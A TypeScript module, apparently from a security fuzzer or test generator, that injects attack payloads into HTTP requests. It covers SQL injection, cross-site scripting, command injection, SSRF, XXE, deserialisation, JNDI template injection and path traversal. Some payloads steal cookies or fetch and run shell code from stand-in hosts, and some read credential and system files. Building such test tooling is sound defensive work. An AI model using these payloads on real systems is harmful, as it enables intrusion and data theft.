import type { Draw } from './draw.ts';
import { type Json, type MadeRequest, withOneReplaced } from './made-request.ts';

/** A kind of attacks by what is put into an honest request. */
export interface MadeAttack {
  readonly kind: string;
  apply(request: MadeRequest, draw: Draw): MadeRequest;
}

/** One value is replaced by a payload, or followed by it, as attackers do. */
export function payload(kind: string, of: (draw: Draw) => string): MadeAttack {
  return {
    kind,
    apply: (request, draw) =>
      withOneReplaced(request, draw, (value) =>
        draw.isOnce(0.5) && (typeof value === 'string' || typeof value === 'number') ? `${value}${of(draw)}` : of(draw),
      ),
  };
}

const KINDS: readonly MadeAttack[] = [
  payload('SQL injection', (draw) =>
    draw.one([
      `' OR ${draw.number(1, 99)}=${draw.number(1, 99)}-- -`,
      `1) UNION SELECT NULL,user,${draw.number(1, 9)} FROM users#`,
      `'; WAITFOR DELAY '0:0:${draw.number(3, 9)}'--`,
      '" and sleep(5) and "1"="1',
      `'||(SELECT password FROM users LIMIT 1)||'`,
      '1 AND 1=CAST(version() AS int)',
    ]),
  ),
  payload('cross-site scripting', (draw) =>
    draw.one([
      `<script>fetch('//x.example/?'+document.cookie)</script>`,
      `"><img src=x onerror=alert(${draw.number(1, 9)})>`,
      '<svg/onload=confirm`1`>',
      `javascript:alert(document.domain)`,
      `'-alert(1)-'`,
      '<iframe srcdoc="&lt;script&gt;">',
    ]),
  ),
  payload('path traversal', (draw) =>
    draw.one([
      `${'../'.repeat(draw.number(2, 8))}etc/passwd`,
      `${'..\\'.repeat(draw.number(2, 6))}windows\\win.ini`,
      '/etc/shadow',
      'file:///proc/self/environ',
      '....//....//etc/hosts',
      '..%2f..%2f..%2fetc%2fpasswd',
    ]),
  ),
  payload('command injection', (draw) =>
    draw.one([
      ';id',
      '| cat /etc/passwd',
      '`wget http://198.51.100.9/x`',
      '$(curl 198.51.100.9|sh)',
      `&& ping -c ${draw.number(3, 20)} 127.0.0.1`,
      '\n/bin/ls -la',
    ]),
  ),
  payload('server-side request forgery', (draw) =>
    draw.one([
      'http://169.254.169.254/latest/meta-data/',
      `http://127.0.0.1:${draw.number(1000, 9999)}/admin`,
      'gopher://127.0.0.1:6379/_INFO',
      'http://[::1]:22/',
      'dict://localhost:11211/stat',
    ]),
  ),
  payload(
    'external entities',
    (draw) => `<!DOCTYPE r [<!ENTITY e SYSTEM "${draw.one(['file:///etc/passwd', 'http://198.51.100.9/e.dtd'])}">]><r>&e;</r>`,
  ),
  payload('deserialisation', (draw) =>
    draw.one([
      `rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw`,
      `O:${draw.number(4, 20)}:"Monolog\\Handler":1:{s:3:"cmd";s:2:"id";}`,
      `{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}`,
      `!!python/object/apply:os.system ["id"]`,
    ]),
  ),
  payload('template injection', (draw) =>
    draw.one([
      `{{${draw.number(2, 9)}*7}}`,
      '${7*7}',
      '<%= system("id") %>',
      `\${jndi:ldap://198.51.100.9/${draw.number(1, 99)}}`,
      '#{T(java.lang.Runtime).getRuntime()}',
    ]),
  ),
  payload('overlong', (draw) => draw.one(['A', '9', '%n', '('] as const).repeat(draw.number(2000, 3500))),
  payload('encoding tricks', (draw) =>
    draw.one([
      '%2527%2520or%25201%253D1--',
      '%c0%ae%c0%ae%c0%afetc%c0%afpasswd',
      '＜script＞alert(1)＜/script＞',
      '\u0000.php',
      '%u003cscript%u003e',
      '&#x3c;script&#x3e;',
    ]),
  ),
  {
    kind: 'mass assignment',
    apply: (request, draw) =>
      withMember(
        request,
        draw.one(['isAdmin', 'role', 'is_verified', 'balance', 'owner_id']),
        draw.one<string | number | boolean>([true, 'admin', 1, 99_999]),
      ),
  },
  {
    kind: 'type confusion',
    apply: (request, draw) =>
      withOneReplaced(request, draw, () =>
        draw.one<Json>([{ $gt: '' }, ['1', '2'], true, null, -1, 1e308, '[object Object]', 'NaN', { $ne: null }]),
      ),
  },
  { kind: 'parameter pollution', apply: polluted },
];

function withMember(request: MadeRequest, name: string, value: string | number | boolean): MadeRequest {
  const { body } = request;
  if (body === undefined) return { ...request, query: [...(request.query ?? []), [name, String(value)]] };
  if (body.kind !== 'json') return { ...request, body: { ...body, fields: [...body.fields, [name, String(value)]] } };
  const members = typeof body.value === 'object' && body.value !== null ? Object.entries(body.value) : [];
  return { ...request, body: { kind: 'json', value: Object.fromEntries([...members, [name, value]]) } };
}

/** One of the names a second time, with another value; where names cannot stand twice, also in the query. */
function polluted(request: MadeRequest, draw: Draw): MadeRequest {
  const { query = [], body } = request;
  const fields = body !== undefined && body.kind !== 'json' ? body.fields : [];
  const names = [...query, ...fields].map(([name]) => name);
  const name = draw.one(names.length === 0 ? ['id'] : [names[0] ?? 'id', ...names]);
  const again = [name, draw.one(['1', 'admin', 'x'])] as const;
  if (body !== undefined && body.kind !== 'json' && fields.some(([other]) => other === name))
    return { ...request, body: { ...body, fields: [...fields, again] } };
  return { ...request, query: [...query, again] };
}

export const MADE_ATTACKS: readonly MadeAttack[] = KINDS;
